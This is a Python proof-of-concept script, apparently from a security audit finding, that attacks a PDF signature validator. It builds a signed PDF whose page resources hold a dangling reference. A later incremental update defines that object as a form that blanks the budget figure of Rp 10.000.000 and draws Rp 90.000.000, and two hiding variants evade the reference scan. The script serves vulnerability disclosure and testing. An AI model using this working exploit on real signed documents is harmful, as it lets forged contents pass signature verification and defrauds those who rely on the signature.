# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 4: UNDEFINED_OBJECT_DEFINED misses a dangling reference held in a dictionary.
# collectReferences walks dictionaries with qpdf's getKeys(), which leaves out keys whose
# value is null -- and a reference to an undefined object reads as null. The signed page's
# indirect /Resources (object 6, which the signer does not rewrite) /XObject /X points to undefined object 100 (content "/X Do" draws nothing);
# a later revision defines object 100 as a Form XObject.
from common import *
import sys
cert = sys.argv[1] if len(sys.argv) > 1 and sys.argv[1] != "-" else None
# Hiding variants (the reference scan blanks trailers): a "trailer" string inside the
# object, or the resources made a /Type /XRef stream-looking dictionary name.
hide = sys.argv[2] if len(sys.argv) > 2 else ""
OLD = b"BT /F1 24 Tf 72 720 Td (Jumlah anggaran: Rp 10.000.000) Tj ET /X Do"
NEW = b"q 1 1 1 rg 60 700 500 60 re f Q BT /F1 24 Tf 0 0 1 rg 72 720 Td (Jumlah anggaran: Rp 90.000.000) Tj ET"
objs = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 6 0 R /Contents 4 0 R >>",
        6: b"<< %s/Font << /F1 5 0 R >> /XObject << /X 100 0 R >> >>" % {"": b"", "trailer": b"/Note (trailer) ", "xref": b"/Type /XRef "}[hide],
        4: stream(OLD), 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
tag = "a3" + ("-cert" + cert if cert else "") + ("-" + hide if hide else "")
src = write(tag + "-src.pdf", build(objs))
signed = sign(src, W + "/" + tag + "-signed.pdf", *(["--certify", cert] if cert else []))
f = write(tag + "-attack.pdf", update(signed, {100: stream(NEW, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> ")}))
verify(W + "/" + tag + "-signed.pdf"); verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
